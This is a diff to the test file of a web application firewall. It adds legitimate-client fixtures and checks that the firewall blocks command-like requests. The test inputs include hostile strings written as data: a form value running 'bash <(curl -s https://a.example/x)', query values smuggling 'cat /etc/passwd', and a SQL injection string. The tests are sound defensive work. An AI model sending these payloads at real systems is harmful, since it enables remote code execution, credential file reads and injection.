@@ -2,6 +2,7 @@ import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
 import { createFirewall } from '../firewall.ts';
 import { detectors } from './all.ts';
+import clients from './testdata/honest-clients.json' with { type: 'json' };
 import programs from './testdata/honest-programs.json' with { type: 'json' };
 
 interface Request {
@@ -29,7 +30,7 @@ describe('requests as real programs send them', () => {
     if (head.verdict === 'block') return [head.problem?.detail ?? '', ...head.matches.map(({ rule }) => rule)];
     if (body === undefined) return [];
     const inspection = firewall.openBody(
-      { contentType: headers['content-type'], contentEncoding: undefined, method },
+      { contentType: headers['content-type'], contentEncoding: headers['content-encoding'], method },
       policy,
       context,
     );
@@ -47,7 +48,8 @@ describe('requests as real programs send them', () => {
   });
 
   // If this fails, a camera, a calendar, a directory or a search box stops working behind the gate.
-  for (const request of programs) test(`passes ${request.name}`, () => assert.deepEqual(stoppedBy(request), []));
+  for (const request of [...programs, ...clients])
+    test(`passes ${request.name}`, () => assert.deepEqual(stoppedBy(request), []));
 
   for (const request of [
     get('/ISAPI/Security/users'),
@@ -64,6 +66,11 @@ describe('requests as real programs send them', () => {
     get(`/q?a=${encodeURIComponent('x&nbsp; cat /etc/passwd</p>')}`),
     form(`payload=${encodeURIComponent(JSON.stringify({ script: 'bash <(curl -s https://a.example/x)' }))}`),
     form(`id=${encodeURIComponent('1 or "a"="a" -- ')}`),
+    get('/dl/cat%20flag.txt'),
+    get('/dl/type%20notes.txt'),
+    get('/dl/file%20-i%20x.pdf'),
+    get(`/q?q=${encodeURIComponent('cat photo.jpg')}`),
+    get(`/q?file=${encodeURIComponent('cat /etc/passwd .jpg')}`),
   ])
     test(`stops ${request.name}`, () => assert.notDeepEqual(stoppedBy(request), []));
 });
